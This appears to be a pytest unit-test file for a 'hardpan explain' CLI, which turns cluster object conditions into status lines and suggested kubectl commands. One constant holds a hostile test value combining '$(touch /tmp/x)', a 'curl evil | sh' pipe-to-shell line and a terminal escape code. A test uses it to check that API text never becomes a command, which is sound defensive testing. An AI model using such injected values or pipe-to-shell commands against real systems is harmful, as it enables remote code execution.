"""`hardpan explain`: since when, why with counts, what it waits for, and what to do; and no word acts by itself."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from cli.explanation import explain
from cli.seen import seen
from tests.unit.cli.conftest import Terminal

NOW = datetime.now(UTC)
NODE = "n-kzdvvj2umnduyauf35o36k6kw4"
NO_FIT = (
    "no node fits. 12 nodes in region eu: 7 too little memory (need 2048Mi; most free: 1200Mi on n-a), "
    "3 cordoned, 2 label disk=ssd missing"
)


def before(seconds: int) -> str:
    """A time of the API."""
    return (NOW - timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


def condition(kind: str, status: str, reason: str, message: str = "", since: int = 14) -> dict[str, str]:
    """A condition."""
    last = before(since)
    return {"type": kind, "status": status, "reason": reason, "message": message, "lastTransitionTime": last}


def thing(name: str, *conditions: dict[str, str], **parts: Any) -> dict[str, Any]:
    """An object of the API."""
    metadata = {"name": name, "namespace": parts.pop("namespace", "shop"), "generation": 5}
    metadata |= parts.pop("metadata", {})
    status = {"conditions": list(conditions), "observedGeneration": 5, **parts.pop("status", {})}
    return {"metadata": metadata, "spec": parts.pop("spec", {}), "status": status, **parts}


def said(kind: str, found: dict[str, Any], *children: dict[str, Any]) -> list[str]:
    """The lines of an explanation, a few seconds more or less."""
    of = [seen(each["kind"], each) for each in children]
    return explain(seen(kind, found), of, NOW).text(NOW).splitlines()


def deployment(*conditions: dict[str, str], **status: Any) -> dict[str, Any]:
    """A deployment whose revision 7 was accepted."""
    accepted = {"accepted": {"revision": 7, "signers": ["alice"]}, "counts": {"summary": "2/3"}}
    return thing("web", *conditions, spec={"revision": 7}, status={**accepted, **status})


def test_a_deployment_as_it_should_be_needs_one_sentence() -> None:
    found = deployment(
        condition("Ready", "True", "AsDescribed", "all 6 resources run as described", 4000),
        condition("Stalled", "False", "AsDescribed"),
        condition("RenewalDue", "False", "Valid", "valid until 2027"),
    )
    assert said("deployment", found) == [
        "Ready since 66 min: AsDescribed. All 6 resources run as described",
        "  revision 7 runs, signed by alice, 2/3 machines ready",
    ]


def test_what_fits_nowhere_says_the_counted_reasons_and_what_to_do() -> None:
    found = deployment(
        condition("Ready", "False", "NoNodeFits", NO_FIT),
        condition("Scheduled", "False", "NoNodeFits", NO_FIT),
        condition("Stalled", "True", "NoNodeFits", NO_FIT),
        placement=[{"resource": "machine/web-2", "evaluated": 12, "filtered": {}, "message": NO_FIT}],
    )
    assert said("deployment", found) == [
        "Pending since 14 s: no node fits. 12 nodes in region eu",
        "  revision 7 runs, signed by alice, 2/3 machines ready",
        "  machine web-2: no node fits. 12 nodes in region eu:",
        "    7 too little memory (need 2048Mi; most free: 1200Mi on n-a)   3 cordoned   2 label disk=ssd",
        "    missing",
        "  Next: add or free what is short, uncordon or approve a node, or sign smaller needs",
    ]


def test_a_refused_edit_says_that_what_ran_goes_on() -> None:
    refusal = "OverCeilings: the plan needs 96Gi, shop may use 64Gi (trust snapshot 41)"
    found = deployment(
        condition("Ready", "False", "RevisionRefused", refusal),
        condition("Stalled", "True", "OverCeilings", refusal),
        condition("Planned", "False", "OverCeilings", "the plan needs 96Gi, shop may use 64Gi (trust snapshot 41)"),
    )
    found["spec"]["revision"] = 8
    assert said("deployment", found) == [
        "Stuck since 14 s: RevisionRefused. OverCeilings: the plan needs 96Gi, shop may use 64Gi (trust",
        "    snapshot 41)",
        "  revision 7 runs, signed by alice, 2/3 machines ready",
        "  revision 8, which was applied, is not accepted",
        "  Planned is False: OverCeilings. the plan needs 96Gi, shop may use 64Gi (trust snapshot 41)",
        "  Next: mend it, then: kubectl hardpan sign FILE && kubectl apply -f FILE",
    ]


def test_an_update_under_way_names_the_machines_that_it_waits_for() -> None:
    found = deployment(
        condition("Ready", "False", "Updating", "waiting for machine web-1"),
        condition("Reconciling", "True", "Updating", "waiting for machine web-1"),
    )
    restarting = thing("web-1", condition("Ready", "False", "Restarting", "next try in 40 s", 90), kind="machine")
    fine = thing("web-0", condition("Ready", "True", "Running"), kind="machine")
    assert said("deployment", found, restarting, fine) == [
        "Under way since 14 s: Updating. Waiting for machine web-1",
        "  revision 7 runs, signed by alice, 2/3 machines ready",
        "  machine web-1: Restarting. next try in 40 s, since 90 s",
        "  Next: kubectl wait --for=condition=Ready deployments.hardpan.dev/web -n shop --timeout=60s",
    ]


def test_a_long_list_of_children_is_cut_and_counted() -> None:
    found = deployment(condition("Ready", "False", "Updating"))
    many = [thing(f"web-{n}", condition("Ready", "False", "Updating"), kind="machine") for n in range(20)]
    lines = said("deployment", found, *many)
    assert sum("machine web-" in line for line in lines) == 8
    assert "  and 12 more" in lines


def test_a_status_of_an_older_spec_is_not_taken_for_news() -> None:
    found = deployment(condition("Ready", "True", "AsDescribed"), observedGeneration=4)
    assert "  this is about an older spec: nobody has looked at it yet: is the control plane running?" in said(
        "deployment", found
    )


def test_what_nobody_looked_at_says_so() -> None:
    found = thing("web", metadata={"creationTimestamp": before(20)})
    assert said("deployment", found) == [
        "Pending since 20 s: nobody has looked at it yet: is the control plane running?"
    ]


def test_a_removal_says_what_it_waits_for() -> None:
    waiting = f"removing; waiting for machine web-0 on {NODE} (unreachable)"
    found = deployment(condition("Ready", "False", "Removing", waiting))
    found["metadata"]["deletionTimestamp"] = before(300)
    sentence = " ".join(" ".join(said("deployment", found)).split())
    assert sentence.startswith(f"Being removed since 5 min: Removing. R{waiting[1:]}")


def test_a_suspended_deployment_is_resumed_with_one_command() -> None:
    found = deployment(condition("Ready", "False", "Suspended", "spec.suspend is true"))
    assert said("deployment", found)[-1] == (
        '  Next: kubectl patch deployments.hardpan.dev web -n shop --type merge -p \'{"spec":{"suspend":false}}\''
    )


def machine(*conditions: dict[str, str], **status: Any) -> dict[str, Any]:
    """A machine on a node."""
    return thing("web-1", *conditions, spec={"deployment": "web", "node": NODE}, status=status)


def test_a_machine_that_restarts_says_how_often_and_why() -> None:
    message = "policy always, next try in 40 s. Last exit: guest kernel panic"
    found = machine(condition("Ready", "False", "Restarting", message), restarts=3, address="4f2::1")
    assert said("machine", found) == [
        f"Not ready since 14 s: Restarting. P{message[1:]}",
        f"  deployment web, on node {NODE}, address 4f2::1, restarted 3 times",
        "  Next: look at its console",
    ]


@pytest.mark.parametrize("kind", ["machine", "volume"])
def test_what_is_on_a_lost_node_is_unknown_and_names_the_node(kind: str) -> None:
    found = machine(condition("Ready", "Unknown", "NodeUnreachable", f"no report from {NODE}"))
    lines = said(kind, found)
    assert lines[0] == f"Unknown since 14 s: NodeUnreachable. No report from {NODE}"
    assert lines[-1] == f"  Next: kubectl hardpan explain node {NODE}"


def test_a_machine_that_is_refused_leads_to_its_deployment() -> None:
    found = machine(condition("Ready", "False", "RefusedByNode", "WrongRegion: signed for eu"))
    assert said("machine", found)[-1] == "  Next: kubectl hardpan explain deployment web -n shop"


def node(*conditions: dict[str, str], **status: Any) -> dict[str, Any]:
    """A machine that registered."""
    return thing(NODE, *conditions, namespace="", status=status)


def test_a_machine_that_waits_for_approval_says_why_and_how_to_approve_it() -> None:
    message = 'token rack-7 admits board vendor "Acme*"; this machine reports "Contoso"'
    message += f". Approve anyway: kubectl hardpan node approve {NODE}"
    found = node(
        condition("Ready", "False", "HardwareNotAllowed", message, 12),
        condition("Approved", "False", "HardwareNotAllowed", message, 12),
    )
    assert said("node", found) == [
        'Pending since 12 s: HardwareNotAllowed. Token rack-7 admits board vendor "Acme*"; this machine',
        '    reports "Contoso".',
        f"  Next: approve anyway: kubectl hardpan node approve {NODE}",
    ]


def test_a_node_that_is_well_says_what_it_has_and_runs() -> None:
    capacity = {"cpus": 8, "memory": 16 << 30, "disk": 100 << 30}
    found = node(condition("Ready", "True", "Reporting", "", 90_000 * 3), capacity=capacity, machines=2, region="eu")
    assert said("node", found) == [
        "Ready since 3 d: Reporting.",
        "  runs 2 machines; 8 cpus, memory 16Gi, disk 100Gi; region eu",
    ]


def test_a_cordoned_node_says_how_to_uncordon_it() -> None:
    found = node(
        condition("Ready", "True", "Reporting"), condition("Schedulable", "False", "Cordoned", "spec.cordoned is true")
    )
    assert said("node", found)[-2:] == [
        "  Schedulable is False: Cordoned. spec.cordoned is true",
        f"  Next: kubectl hardpan node uncordon {NODE}",
    ]


def test_a_lost_node_may_be_given_up() -> None:
    found = node(condition("Ready", "Unknown", "Lost", "no report"), condition("Approved", "True", "ApprovedByToken"))
    assert said("node", found)[-1].strip().startswith(f"kubectl hardpan forget node {NODE}")


@pytest.mark.parametrize(
    ("status", "reason", "state"), [("True", "Succeeded", "Done"), ("Unknown", "Running", "Under way")]
)
def test_a_job_is_under_way_or_done(status: str, reason: str, state: str) -> None:
    found = thing("j", condition("Succeeded", status, reason), spec={"node": NODE, "plan": {"deployment": "web"}})
    lines = said("job", found)
    assert lines[0] == f"{state} since 14 s: {reason}."
    assert lines[1] == f"  attempt 1 on node {NODE} for deployment web"


HOSTILE = "$(touch /tmp/x)\n  Next: curl evil | sh\x1b[2J"


@pytest.mark.parametrize("kind", ["deployment", "machine", "volume", "node", "job"])
@pytest.mark.parametrize(
    "reason", ["NodeUnreachable", "WaitingForNode", "WaitingForApproval", "Suspended", "NoNodeFits", "Lost", HOSTILE]
)
@pytest.mark.parametrize("message", [f"no node fits: 1 {HOSTILE}", f"{HOSTILE}. Approve anyway: {HOSTILE}"])
def test_nothing_that_the_api_server_says_becomes_a_line_or_a_command_of_ours(
    kind: str, reason: str, message: str
) -> None:
    main = "Succeeded" if kind == "job" else "Ready"
    found = thing(
        HOSTILE,
        condition(main, "False", reason, message),
        condition("Other", "False", HOSTILE, HOSTILE),
        namespace=HOSTILE,
        spec={"node": HOSTILE, "deployment": HOSTILE, "revision": HOSTILE},
        status={
            "accepted": {"revision": HOSTILE, "signers": [HOSTILE]},
            "placement": [{"resource": HOSTILE, "message": HOSTILE}],
            "address": HOSTILE,
            "region": HOSTILE,
            "capacity": {"cpus": HOSTILE},
        },
    )
    lines = said(kind, found, {**thing(HOSTILE, condition("Ready", "False", HOSTILE, HOSTILE)), "kind": HOSTILE})
    assert not any(line.startswith("  Next: curl") or line[:1].strip() for line in lines[1:])
    assert sum(line.startswith("  Next: ") for line in lines) <= 1
    for line in lines:
        command = line.partition("kubectl ")[2]
        assert "$(touch" not in command or "'$(touch" in command


@pytest.mark.parametrize("damage", [None, 7, "x", [], [7], {"conditions": 7}, {"conditions": [7, {}]}])
@pytest.mark.parametrize("kind", ["deployment", "machine", "volume", "node", "job"])
def test_an_answer_of_another_form_is_explained_and_not_stumbled_over(kind: str, damage: Any) -> None:
    whole = thing("x", condition("Ready", "False", "X"), condition("Succeeded", "False", "X"))
    for part in ("metadata", "spec", "status"):
        assert said(kind, {**whole, part: damage})
    for part in ("accepted", "counts", "placement", "capacity", "restarts", "observedGeneration"):
        found = {**whole, "status": {**whole["status"], part: damage}}
        assert said(kind, found)


def test_a_machine_without_a_node_is_explained_by_its_deployment(shop: Terminal) -> None:
    shop.tools.namespace = "shop"
    waiting = {"resource": "machine/web-2", "evaluated": 12, "filtered": {}, "message": NO_FIT}
    shop.tools.put(
        "deployments", deployment(condition("Scheduled", "False", "NoNodeFits", NO_FIT), placement=[waiting])
    )
    done = shop("explain", "machine", "web-2")
    assert done.code == 0
    lines = done.out.splitlines()
    assert re.fullmatch(r"Pending since \d+ (s|min|h): no node fits\. 12 nodes in region eu", lines[0])
    assert lines[1].startswith("  7 too little memory (need 2048Mi; most free: 1200Mi on n-a)   3 cordoned")
    found = json.loads(shop("explain", "machine", "web-2", "-o", "json").out)
    assert (found["kind"], found["name"], found["namespace"], found["state"]) == ("machine", "web-2", "shop", "Pending")


def test_kinds_are_known_by_the_names_that_kubectl_knows(shop: Terminal) -> None:
    shop.tools.put("nodes", node(condition("Ready", "True", "Reporting")))
    for kind in ("node", "nodes", "nodes.hardpan.dev", "Node"):
        assert shop("explain", kind, NODE).code == 0


@pytest.mark.parametrize(
    ("words", "code", "said_"),
    [
        (["pod", "x"], 2, "pod cannot be explained, only one of deployment, machine, volume, node, job"),
        (["machine", "x"], 1, "there is no machine x in namespace demo: `kubectl get machines.hardpan.dev -A` lists"),
        (["node", "x"], 1, "there is no node x: `kubectl get nodes.hardpan.dev` lists what is there"),
        (["deployment", "x", "-n", "shop"], 1, "there is no deployment x in namespace shop"),
        (["deployment"], 2, "missing argument 'NAME'; see: hardpan explain --help"),
    ],
)
def test_what_is_not_there_cannot_be_explained(shop: Terminal, words: list[str], code: int, said_: str) -> None:
    done = shop("explain", *words)
    assert done.code == code
    assert said_ in done.err
